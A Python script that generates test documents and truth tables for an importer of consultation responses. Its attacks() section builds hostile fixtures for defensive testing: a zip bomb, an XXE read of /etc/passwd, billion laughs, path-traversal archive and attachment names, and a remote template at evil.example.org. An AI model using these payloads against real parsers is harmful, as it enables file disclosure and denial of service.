"""Make the documents of the harder set and their truth tables from `contents.py`.

Run ``python make.py`` in this folder; those that LibreOffice writes are made anew only where
``soffice`` is installed, and are committed so that nobody needs it. Nothing of the importer is
used here.
"""

# Texts under test stand in one piece.
# ruff: noqa: E501

from __future__ import annotations

import csv
import email.message
import html
import io
import shutil
import subprocess
import sys
import tempfile
import zipfile
from email.policy import SMTP
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from contents import CONTRIBUTIONS, EN, Contribution, N, P, S, U

HERE = Path(__file__).parent
FILES = HERE / "files"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
    'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" office:version="1.2"'
)
BY_NAME = {c.name: c for c in CONTRIBUTIONS if c.respondent in (0, 1)}


def esc(text: str) -> str:
    """Text as XML content."""
    return html.escape(text, quote=False)


def archive(members: dict[str, str | bytes]) -> bytes:
    """A zip file with a fixed date, so that it is the same at every run."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            info = zipfile.ZipInfo(name, (2020, 10, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            made.writestr(info, content)
    return buffer.getvalue()


# --- Word, by hand --------------------------------------------------------------------------


def w_run(text: str) -> str:
    # Word splits a paragraph into runs anywhere: so do we, in the middle of words.
    middle = len(text) // 2
    parts = (text[:middle], text[middle:]) if len(text) > 8 else (text,)
    return "".join(f'<w:r><w:t xml:space="preserve">{esc(part)}</w:t></w:r>' for part in parts)


def w_p(content: str, style: str = "") -> str:
    style = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f"<w:p>{style}{content}</w:p>"


def w_cell(text: str) -> str:
    return f"<w:tc><w:tcPr/>{w_p(w_run(text))}</w:tc>"


def w_block(block: tuple[str, ...]) -> str:
    kind, *rest = block
    text = rest[-1]
    if kind == "title":
        return w_p(w_run(text), "Title")
    if kind == "h":
        return w_p(w_run(text), "Heading2")
    if kind in ("li", "ai"):
        return (
            '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
            f"{w_run(text)}</w:p>"
        )
    if kind == "row":
        return f"<w:tbl><w:tr>{w_cell(rest[0])}{w_cell(rest[1])}</w:tr></w:tbl>"
    if kind == "arow":
        return f"<w:tbl><w:tr>{w_cell(rest[0])}{w_cell(rest[2])}</w:tr></w:tbl>"
    if kind == "sdt":
        return (
            f"<w:tbl><w:tr>{w_cell(rest[0])}<w:sdt><w:sdtPr><w:alias w:val='field'/></w:sdtPr>"
            f"<w:sdtContent><w:tc>{w_p(w_run(rest[1]))}</w:tc></w:sdtContent></w:sdt></w:tr></w:tbl>"
        )
    if kind == "tracked":
        _, before, gone, new, after = rest
        return w_p(
            w_run(before)
            + f'<w:del w:id="1" w:author="A"><w:r><w:delText>{esc(gone)}</w:delText></w:r></w:del>'
            + f'<w:ins w:id="2" w:author="A">{w_run(new)}</w:ins>'
            + w_run(after)
        )
    if kind == "field":
        return w_p(
            '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="T1"/>'
            "<w:textInput/></w:ffData></w:fldChar></w:r>"
            "<w:r><w:instrText> FORMTEXT </w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            + w_run(text)
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )
    if kind == "comment":
        return w_p('<w:commentRangeStart w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>')
    return w_p(w_run(text))


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.'
    'org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.'
    'org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)


def docx_members(contribution: Contribution) -> dict[str, str | bytes]:
    """The parts of a Word file."""
    body = "".join(w_block(block) for block in with_definitions(contribution))
    members: dict[str, str | bytes] = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELS,
        "word/document.xml": f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>'
        f"{body}<w:sectPr/></w:body></w:document>",
    }
    comments = [block[1] for block in contribution.blocks if block[0] == "comment"]
    if comments:
        members["word/comments.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><w:comments {W}><w:comment w:id="0" '
            f'w:author="A">{w_p(w_run(comments[0]))}</w:comment></w:comments>'
        )
    return members


def with_definitions(contribution: Contribution) -> tuple[tuple[str, ...], ...]:
    return contribution.blocks


# --- OpenDocument, by hand ------------------------------------------------------------------


def odt_block(block: tuple[str, ...]) -> str:
    kind, *rest = block
    text = rest[-1]
    if kind in ("title", "h"):
        level = 1 if kind == "title" else 2
        return f'<text:h text:outline-level="{level}">{esc(text)}</text:h>'
    if kind in ("li", "ai"):
        return (
            f"<text:list><text:list-item><text:p>{esc(text)}</text:p></text:list-item></text:list>"
        )
    if kind == "odt-tracked":
        _, before, _, after = rest
        return f'<text:p>{esc(before)}<text:change text:change-id="c1"/>{esc(after)}</text:p>'
    if kind == "annotation":
        return (
            "<text:p><office:annotation><dc:creator>A</dc:creator>"
            f"<text:p>{esc(text)}</text:p></office:annotation></text:p>"
        )
    if kind in ("header", "comment"):
        return ""
    return f"<text:p>{esc(text)}</text:p>"


def odt(contribution: Contribution, *, columns: int = 1, number_pages: bool = False) -> bytes:
    """An OpenDocument text; two columns are a section."""
    tracked = [block for block in contribution.blocks if block[0] == "odt-tracked"]
    changes = (
        '<text:tracked-changes><text:changed-region text:id="c1"><text:deletion>'
        f"<text:p>{esc(tracked[0][3])}</text:p></text:deletion></text:changed-region>"
        "</text:tracked-changes>"
        if tracked
        else ""
    )
    body = "".join(odt_block(block) for block in contribution.blocks)
    if columns > 1:
        body = f'<text:section text:style-name="cols" text:name="s">{body}</text:section>'
    header = [block[1] for block in contribution.blocks if block[0] == "header"]
    page = '<text:p>Page <text:page-number text:select-page="current">1</text:page-number></text:p>'
    styles = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-styles {ODF}><office:styles>'
        '<style:default-style style:family="paragraph"><style:paragraph-properties '
        'fo:hyphenation-ladder-count="no-limit"/><style:text-properties fo:language="en" '
        'fo:country="GB" fo:hyphenate="true" fo:hyphenation-remain-char-count="2" '
        'fo:hyphenation-push-char-count="2" fo:font-size="14pt"/></style:default-style>'
        '</office:styles><office:automatic-styles><style:page-layout style:name="pl">'
        '<style:page-layout-properties fo:page-width="18cm" fo:page-height="20cm" '
        'fo:margin="2cm"/><style:header-style/><style:footer-style/></style:page-layout>'
        "</office:automatic-styles><office:master-styles>"
        '<style:master-page style:name="Standard" style:page-layout-name="pl">'
        + (f"<style:header><text:p>{esc(header[0])}</text:p></style:header>" if header else "")
        + (f"<style:footer>{page}</style:footer>" if number_pages else "")
        + "</style:master-page></office:master-styles></office:document-styles>"
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF}>'
        '<office:automatic-styles><style:style style:name="cols" style:family="section">'
        f'<style:section-properties><style:columns fo:column-count="{columns}" '
        'fo:column-gap="0.8cm"/></style:section-properties></style:style>'
        f"</office:automatic-styles><office:body><office:text>{changes}{body}</office:text>"
        "</office:body></office:document-content>"
    )
    return archive(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": content,
            "styles.xml": styles,
            "META-INF/manifest.xml": '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.'
            'oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" '
            'manifest:media-type="text/xml"/><manifest:file-entry '
            'manifest:full-path="styles.xml" manifest:media-type="text/xml"/></manifest:manifest>',
        }
    )


def libreoffice(source: bytes, suffix: str, target: str, *more: str) -> bytes | None:
    """What LibreOffice makes of a document; None where it is not installed."""
    program = shutil.which("soffice")
    if program is None:
        return None
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"source{suffix}"
        path.write_bytes(source)
        subprocess.run(
            [
                program,
                f"-env:UserInstallation=file://{folder}/profile",
                "--headless",
                *more,
                "--convert-to",
                target,
                "--outdir",
                f"{folder}/out",
                str(path),
            ],
            check=True,
            capture_output=True,
        )
        return next((Path(folder) / "out").iterdir()).read_bytes()


# --- other formats --------------------------------------------------------------------------


def plain(blocks: tuple[tuple[str, ...], ...], *, markdown: bool = False) -> str:
    """Plain text or Markdown."""
    parts = []
    for kind, *rest in blocks:
        text = rest[-1]
        if kind == "title":
            parts.append(f"# {text}" if markdown else text)
        elif kind == "h":
            parts.append(f"## {text}" if markdown else text)
        elif kind in ("li", "ai"):
            parts.append(f"- {text}")
        elif kind == "feedback":
            pointer, _, remark = text.partition(":")
            parts.append(f"- **{pointer}:**{remark}")
        elif kind == "inline":
            parts.append(f"{rest[0]} {text}")
        elif kind == "quoted":
            parts.append("\n".join(f"> {line}" for line in wrap(text)))
        else:
            parts.append(text)
    return "\n\n".join(parts) + "\n"


def wrap(text: str, width: int = 72) -> list[str]:
    lines, line = [], ""
    for word in text.split():
        if len(line) + len(word) > width:
            lines.append(line)
            line = ""
        line = f"{line} {word}".strip()
    return [*lines, line]


def page(contribution: Contribution, *, raw: bool = False) -> str:
    """The article of a page."""
    parts, items = [], []
    for kind, *rest in contribution.blocks:
        text = rest[-1] if raw else esc(rest[-1])
        if kind in ("li", "ai"):
            items.append(f"<li>{text}</li>")
            continue
        if items:
            parts.append(f"<ul>{''.join(items)}</ul>")
            items = []
        tag = {"title": "h1", "h": "h3"}.get(kind, "p")
        middle = len(text) // 3
        cut = text.find(" ", middle)
        if kind == "a" and not raw and cut > 0 and "&" not in text:
            end = text.find(" ", cut + 1)
            text = f"{text[: cut + 1]}<b>{text[cut + 1 : end]}</b>{text[end:]}"
        parts.append(f"<{tag}>{text}</{tag}>")
    return "\n".join([*parts, f"<ul>{''.join(items)}</ul>" if items else ""])


MENU = """<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>Red Ejemplo</title>
<script>var agreements = "Tech Accord, NETmundial"; document.write("Tech Accord");</script>
<style>.x{content:"Charter of Trust"}</style></head><body>
<div class="cookie-banner">Usamos cookies. <a href="/c">Aceptar todas</a></div>
<div id="main-menu" class="nav menu"><a href="/">Inicio</a> <a href="/tech">Tech Accord</a></div>
<img src="http://tracker.example.org/pixel.png" alt="">
<iframe src="http://ads.example.org/"></iframe>
"""
FOOT = """<div style="display:none">NETmundial oculto</div>
<div class="sidebar related"><h3>Noticias</h3><p>El Acuerdo de París sobre el clima.</p></div>
<footer>Prensa: prensa@red.example.org</footer></body></html>"""


def mail(headers: dict[str, str], *parts: tuple[str, str]) -> email.message.EmailMessage:
    """A mail with alternatives in the order given."""
    message = email.message.EmailMessage(policy=SMTP)
    for name, value in headers.items():
        message[name] = value
    for number, (subtype, text) in enumerate(parts):
        if number == 0:
            message.set_content(text, subtype=subtype)
        else:
            message.add_alternative(text, subtype=subtype)
    return message


def fixed_boundaries(message: email.message.EmailMessage) -> bytes:
    """The mail's bytes, with boundaries that are the same at every run."""
    for number, part in enumerate(message.walk()):
        if part.is_multipart() and part.get_content_type() != "message/rfc822":
            part.set_boundary(f"=_boundary_{number}")
    return message.as_bytes()


def spreadsheet(rows: list[list[str]], inline: set[int]) -> bytes:
    """A workbook: shared strings, but inline ones in the columns `inline`; dates as numbers."""
    shared: list[str] = []

    def cell(row: int, column: int, value: str) -> str:
        place = f"{chr(65 + column)}{row}"
        if not value:
            return ""
        if value.startswith("#date:"):
            return f'<c r="{place}" s="1"><v>{value[6:]}</v></c>'
        if value.startswith("#formula:"):
            formula, _, result = value[9:].partition("|")
            return f'<c r="{place}" t="str"><f>{esc(formula)}</f><v>{esc(result)}</v></c>'
        if column in inline:
            return f'<c r="{place}" t="inlineStr"><is><t>{esc(value)}</t></is></c>'
        if value not in shared:
            shared.append(value)
        return f'<c r="{place}" t="s"><v>{shared.index(value)}</v></c>'

    sheet = "".join(
        f'<row r="{number}">{"".join(cell(number, c, v) for c, v in enumerate(row))}</row>'
        for number, row in enumerate(rows, start=1)
    )
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    strings = "".join(
        f"<si><r><t>{esc(s[:3])}</t></r><r><t xml:space='preserve'>{esc(s[3:])}</t></r></si>"
        for s in shared
    )
    return archive(
        {
            "[Content_Types].xml": f'{head}<Types xmlns="{package}/content-types"><Default '
            'Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
            '+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
            'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-office'
            'document.spreadsheetml.sheet.main+xml"/></Types>',
            "_rels/.rels": f'{head}<Relationships xmlns="{package}/relationships"><Relationship '
            f'Id="r1" Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'{head}<workbook {main} xmlns:r="{office}"><sheets><sheet '
            'name="Responses" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'{head}<Relationships xmlns="{package}/relationships">'
            f'<Relationship Id="rId1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{office}/sharedStrings" Target="sharedStrings.xml"/>'
            "</Relationships>",
            "xl/sharedStrings.xml": f"{head}<sst {main}>{strings}</sst>",
            "xl/worksheets/sheet1.xml": f"{head}<worksheet {main}><sheetData>{sheet}</sheetData>"
            "</worksheet>",
        }
    )


def told(name: str, respondent: int) -> dict[str, str]:
    """Question to text of one respondent."""
    chosen = next(c for c in CONTRIBUTIONS if c.name == name and c.respondent == respondent)
    return dict(chosen.answers())


def semicolon_csv() -> bytes:
    head = ["Zeitstempel", "Organisation", "Interessengruppe", "Land", "E-Mail"]
    head += ["Veröffentlichung?", "1. Unterzeichner einer Vereinbarung?"]
    head += ["2. Weitere Vereinbarungen?", "3. Projekte?", "4. Offene Fragen?"]
    one, two = told("h22_umfrage.csv", 1), told("h22_umfrage.csv", 2)
    rows = [
        head,
        ["01.10.2020", "Verein Muster Digital", "Zivilgesellschaft", "Schweiz"]
        + ["verein@muster.example.org", "Ja"]
        + [one[q] for q in (S, N, P, U)],
        ["02.10.2020", "Stadtwerke Probeort", "", "Deutschland", "", "Nein"]
        + [two.get(q, "") for q in (S, N, P, U)],
    ]
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8-sig")


def export_xlsx() -> bytes:
    one, two = told("h23_export.xlsx", 1), told("h23_export.xlsx", 2)
    head = ["Start time", "Name of organisation", "Type of stakeholder", "Country", "Contact"]
    head += ["Do you agree to publication?", "Is your organisation a signatory?"]
    head += ["Which agreements are missing?", "Projects or programs", "Unaddressed issues"]
    return spreadsheet(
        [
            head,
            ["#date:44105.5", "Delta Devices Example", "Private sector", "Japan"]
            + ["pr@delta.example.com", '#formula:IF(1=1,"Yes","No")|Yes']
            + [one[q] for q in (S, N, P, U)],
            ["#date:44106.25", "Union Exemple des communes", "Government", "Maroc"]
            + ["+212 5 99 00 11 22", "Non"]
            + [two.get(q, "") for q in (S, N, P, U)],
        ],
        inline={6, 8},
    )


def pdf(texts: list[str]) -> bytes:
    """A PDF by hand, a page per text; an empty text gives a page without any."""
    objects = ["<< /Type /Catalog /Pages 2 0 R >>"]
    kids = " ".join(f"{3 + 2 * n} 0 R" for n in range(len(texts)))
    objects.append(f"<< /Type /Pages /Kids [{kids}] /Count {len(texts)} >>")
    for number, text in enumerate(texts):
        stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET" if text else "0 0 100 100 re f"
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {4 + 2 * number} 0 R "
            "/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> "
            ">> >>"
        )
        objects.append(f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream")
    out, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    return (
        out
        + f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    )


CALL = (
    "\n\nOn 21 September 2020, the coordinator <coordinator@bpf.example.org> wrote:\n"
    "> Please answer before 17 October. The list has the Paris Call and the GCSC norms.\n"
)


def mails() -> dict[str, bytes]:
    """The mails, without those that need LibreOffice."""
    forwarded = mail(
        {
            "From": "Lee Tester <lee.tester@ix.example.net>",
            "To": "bpf-call@example.org",
            "Date": "Thu, 08 Oct 2020 10:00:00 +0300",
            "Subject": "Answers to the BPF call",
        },
        (
            "plain",
            plain(BY_NAME["h14_forwarded.eml"].blocks)
            + "\nBest regards\n\n-- \nLee Tester\nExample Exchange Cooperative (technical "
            "community), Tallinn, Estonia\n4 Sample Quay, 10111 Exampletown\nTel: +372 5550 1177\n",
        ),
    )
    outer = mail(
        {
            "From": "Assistant <assistant@forum.example.org>",
            "To": "bpf-call@example.org",
            "Date": "Fri, 09 Oct 2020 09:00:00 +0200",
            "Subject": "Fwd: Answers to the BPF call",
        },
        ("plain", "FYI, this came to the wrong mailbox.\n"),
    )
    outer.add_attachment(forwarded)
    german = BY_NAME["h15_nur_html.eml"]
    only_html = mail(
        {
            "From": "K. Muster <k.muster@werke.example.com>",
            "To": "bpf-call@example.org",
            "Date": "Mon, 12 Oct 2020 08:30:00 +0200",
            "Subject": "AW: Aufruf",
        },
        (
            "html",
            "<html><body><p>Sehr geehrte Damen und Herren,</p><p>unsere Antworten; eine "
            "Veröffentlichung ist in Ordnung.</p>"
            + page(german).replace("<h3>", "<p><b>").replace("</h3>", "</b></p>")
            + "<p>Mit freundlichen Grüßen</p><p>K. Muster<br>Beispielwerke AG (Privatwirtschaft), "
            "Österreich<br>Beispielgasse 7, 1010 Musterstadt<br>Telefon +43 1 5550 1234</p>"
            '<div class="gmail_quote"><blockquote>Bitte antworten Sie bis 17. Oktober. Zur Liste '
            "gehören der Pariser Appell und NETmundial.</blockquote></div></body></html>",
        ),
    )
    reply = BY_NAME["h16_inline_reply.eml"]
    inline = mail(
        {
            "From": "Noor Sample <noor.sample@citizens.example.org>",
            "To": "bpf-call@example.org",
            "Date": "Tue, 13 Oct 2020 18:00:00 +0100",
            "Subject": "Re: Call for contributions",
        },
        (
            "plain",
            "Hello,\n\nour answers are below, between your lines. Please do not publish them.\n\n"
            "> Dear all, the 2019 set held the Paris Call and the Tech Accord.\n\n"
            + plain(reply.blocks)
            + "\nNoor Sample\nDigital Citizens Example (civil society), Ireland\n"
            "Phone +353 20 915 0123\n",
        ),
    )
    paths = mail(
        {
            "From": "Lou Test <lou@paths.example.net>",
            "To": "bpf-call@example.org",
            "Date": "Wed, 14 Oct 2020 12:00:00 +0000",
            "Subject": "Contribution",
        },
        ("plain", plain(BY_NAME["a12_attachment_path.eml"].blocks)),
    )
    paths.add_attachment(
        b"#!/bin/sh\necho evil\n",
        maintype="application",
        subtype="x-sh",
        filename="../../../../tmp/evil.sh",
    )
    return {
        "h14_forwarded.eml": fixed_boundaries(outer),
        "h15_nur_html.eml": fixed_boundaries(only_html),
        "h16_inline_reply.eml": fixed_boundaries(inline),
        "a12_attachment_path.eml": fixed_boundaries(paths),
    }


def mail_with_attachment(document: bytes) -> bytes:
    message = mail(
        {
            "From": "A. Exemple <a.exemple@agence.example.org>",
            "To": "bpf-call@example.org",
            "Date": "Thu, 15 Oct 2020 16:45:00 +0100",
            "Subject": "Contribution de l'Agence",
        },
        (
            "plain",
            "Madame, Monsieur,\n\nveuillez trouver ci-joint notre contribution.\n\nCordialement,"
            "\n\n-- \nA. Exemple\nTél. +229 99 00 01 02\n" + CALL,
        ),
    )
    message.add_attachment(
        document,
        maintype="application",
        subtype="vnd.openxmlformats-officedocument.wordprocessingml.document",
        filename="contribution.docx",
    )
    return fixed_boundaries(message)


def attacks() -> dict[str, bytes]:
    """Broken and hostile files."""
    normal = docx_members(BY_NAME["a05_remote.docx"])
    whole = archive(normal)
    entity = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(12)
    )
    remote = dict(normal)
    remote["word/_rels/document.xml.rels"] = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="r8" Type="http://schemas.openxmlformats.org/office'
        'Document/2006/relationships/attachedTemplate" Target="http://evil.example.org/t.dotm" '
        'TargetMode="External"/><Relationship Id="r9" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/image" Target="http://evil.example.org/i.png" '
        'TargetMode="External"/></Relationships>'
    )
    remote["word/vbaProject.bin"] = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
    bomb = dict(normal)
    bomb["word/document.xml"] = (
        f"<w:document {W}><w:body><w:p><w:r><w:t>{'a' * 120_000_000}</w:t></w:r></w:p></w:body>"
        "</w:document>"
    )
    ole = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
    ole += "EncryptionInfo".encode("utf-16-le") + bytes(100)
    ole += "EncryptedPackage".encode("utf-16-le") + bytes(900)
    whole_pdf = pdf(["Question 1. We signed the Paris Call."] * 3)
    return {
        "a01_bomb.docx": archive(bomb),
        "a02_entity.docx": archive(
            normal
            | {
                "word/document.xml": f"{entity}<w:document {W}><w:body><w:p><w:r><w:t>&x;</w:t>"
                "</w:r></w:p></w:body></w:document>"
            }
        ),
        "a03_laughs.odt": archive(
            {
                "mimetype": "application/vnd.oasis.opendocument.text",
                "content.xml": f"<!DOCTYPE x [{laughs}]><office:document-content {ODF}>"
                "<office:body><office:text><text:p>&l11;</text:p></office:text></office:body>"
                "</office:document-content>",
            }
        ),
        "a04_path.docx": archive(normal | {"../../../tmp/evil.txt": "evil"}),
        "a05_remote.docx": archive(remote),
        "a06_encrypted.docx": ole,
        "a07_truncated.docx": whole[: len(whole) * 2 // 3],
        "a08_empty.odt": b"",
        "a09_wrong_name.pdf": whole,
        "a11_script.html": (
            "<html><body><article>"
            "<p>Organisation: Script Example &lt;script&gt;alert(1)&lt;/script&gt;</p>"
            f"<h3>{EN[S]}</h3><p>We like &lt;b onmouseover=alert(2)&gt;MANRS&lt;/b&gt; and say so."
            "</p></article></body></html>"
        ).encode(),
        "a13_truncated.pdf": whole_pdf[: len(whole_pdf) // 3],
        "a14_deep.html": b"<html><body>" + b"<div>" * 20_000 + b"Paris Call",
        "a15_many_members.odt": archive(
            {f"m{n}": "" for n in range(3_000)}
            | {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}
        ),
        "a16_binary.txt": b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8,
        "h10_scanned.pdf": pdf(["", ""]),
    }


def by_libreoffice() -> dict[str, bytes | None]:
    """The documents that LibreOffice writes."""
    german = odt(BY_NAME["h03_stellungnahme.docx"])
    lock = (
        'pdf:writer_pdf_Export:{"EncryptFile":{"type":"boolean","value":"true"},'
        '"DocumentOpenPassword":{"type":"string","value":"sample"}}'
    )
    french = libreoffice(odt(BY_NAME["h13_piece_jointe.eml"]), ".odt", "docx")
    columns = odt(BY_NAME["h08_two_columns.pdf"], columns=2, number_pages=True)
    one = told("h24_inquerito.xlsx", 1)
    head = ["Data", "Organização", "Setor", "País", "Publicar?", "P1 signatário"]
    head += ["P2 outros acordos", "P3 projetos", "P4 questões em aberto"]
    values = ["2020-10-06", "Laboratório Exemplo", "Academia", "Angola", "Sim"]
    out = io.StringIO()
    csv.writer(out).writerows([head, values + [one[q] for q in (S, N, P, U)]])
    return {
        "h03_stellungnahme.docx": libreoffice(german, ".odt", "docx"),
        "h04_essay.docx": libreoffice(odt(BY_NAME["h04_essay.docx"]), ".odt", "docx"),
        "h06_reponse.odt": libreoffice(
            odt(BY_NAME["h06_reponse.odt"], number_pages=True), ".odt", "odt:writer8"
        )
        or None,
        "h08_two_columns.pdf": libreoffice(columns, ".odt", "pdf"),
        "h09_aportacion.pdf": libreoffice(
            odt(BY_NAME["h09_aportacion.pdf"], number_pages=True), ".odt", "pdf"
        ),
        "h12_pagina_exportada.html": libreoffice(
            odt(BY_NAME["h12_pagina_exportada.html"]), ".odt", "html"
        ),
        "h13_piece_jointe.eml": mail_with_attachment(french) if french else None,
        "h24_inquerito.xlsx": libreoffice(
            out.getvalue().encode(),
            ".csv",
            "xlsx:Calc MS Excel 2007 XML",
            "--infilter=CSV:44,34,76",
        ),
        "h30_old_word.doc": libreoffice(odt(BY_NAME["h30_old_word.doc"]), ".odt", "doc"),
        "a10_locked.pdf": libreoffice(german, ".odt", lock),
    }


def documents() -> dict[str, bytes | None]:
    """File name to content; None for what cannot be made here."""
    made: dict[str, bytes | None] = {
        name: archive(docx_members(BY_NAME[name]))
        for name in ("h01_form_controls.docx", "h02_tabla_respuestas.docx", "h05_joint.docx")
    }
    made["h07_contributo.odt"] = odt(BY_NAME["h07_contributo.odt"])
    made["h11_pagina.html"] = (MENU + page(BY_NAME["h11_pagina.html"]) + FOOT).encode()
    made["h25_english_stems.html"] = (
        f"<html><body>{page(BY_NAME['h25_english_stems.html'])}</body></html>".encode()
    )
    russian = plain(BY_NAME["h17_otvet.txt"].blocks) + "\nПочта: centr@primer.example.org\n"
    made["h17_otvet.txt"] = russian.encode("utf-16")
    spanish = plain(BY_NAME["h18_respuesta_antigua.txt"].blocks).replace("\n", "\r\n")
    made["h18_respuesta_antigua.txt"] = spanish.encode("cp1252")
    for name in ("h19_short_answers.txt", "h26_short_answers_revised.txt", "h28_confidential.txt"):
        made[name] = plain(BY_NAME[name].blocks).encode()
    made["h29_minutes.txt"] = plain(BY_NAME["h29_minutes.txt"].blocks).encode()
    made["h20_reponse.md"] = plain(BY_NAME["h20_reponse.md"].blocks, markdown=True).encode()
    made["h27_copie_de_la_reponse.md"] = made["h20_reponse.md"]
    made["h21_comments_on_draft.md"] = plain(
        BY_NAME["h21_comments_on_draft.md"].blocks, markdown=True
    ).encode()
    made["h22_umfrage.csv"] = semicolon_csv()
    made["h23_export.xlsx"] = export_xlsx()
    return made | mails() | attacks() | by_libreoffice()


def key(contribution: Contribution) -> str:
    """File name, with the respondent where there are several."""
    several = sum(c.name == contribution.name for c in CONTRIBUTIONS) > 1
    return f"{contribution.name}#{contribution.respondent}" if several else contribution.name


def truth() -> dict[str, list[list[str]]]:
    """The three truth tables, in the columns of the sample set."""
    main = [
        [
            "file",
            "expected",
            "organisation",
            "stakeholder_group",
            "country_iso3",
            "language",
            "consent_to_publish",
            "agreement_ids",
            "norm_ids",
            "healthcare",
            "n_personal_data",
            "duplicate_of",
            "made_by",
        ]
    ]
    answers = [["file", "question", "first_words", "n_words"]]
    personal = [["file", "kind", "value"]]
    for c in CONTRIBUTIONS:
        main.append(
            [
                key(c),
                c.expected,
                c.organisation,
                c.group,
                c.iso3,
                c.language,
                c.consent,
                ";".join(sorted(c.agreements)),
                ";".join(sorted(c.norms)),
                c.healthcare,
                str(len(c.personal)),
                c.duplicate_of,
                c.made_by,
            ]
        )
        for question, text in truth_answers(c):
            words = text.split()
            answers.append([key(c), question, " ".join(words[:5]), str(len(words))])
        personal += [[key(c), kind, value] for kind, value in c.personal]
    return {"truth.csv": main, "truth_answers.csv": answers, "truth_personal_data.csv": personal}


def truth_answers(c: Contribution) -> list[tuple[str, str]]:
    """Whole answers as they read once deleted words are gone; feedback keeps one row a remark."""
    joined: dict[str, list[str]] = {}
    single = []
    for block in c.blocks:
        if block[0] in ("a", "ai", "field"):
            joined.setdefault(block[1], []).append(block[2])
        elif block[0] in ("arow", "inline"):
            joined.setdefault(block[2], []).append(block[3])
        elif block[0] == "tracked":
            joined.setdefault(block[1], []).append(block[2] + block[4] + block[5])
        elif block[0] == "odt-tracked":
            joined.setdefault(block[1], []).append(block[2] + block[4])
        elif block[0] == "feedback":
            single.append((block[1], block[2]))
    rows = [(question, " ".join(texts)) for question, texts in joined.items()]
    return rows + single + [(question, "") for question in c.empty]


def main() -> None:
    """Write files and truth."""
    FILES.mkdir(exist_ok=True)
    for name, content in documents().items():
        if content is not None:
            (FILES / name).write_bytes(content)
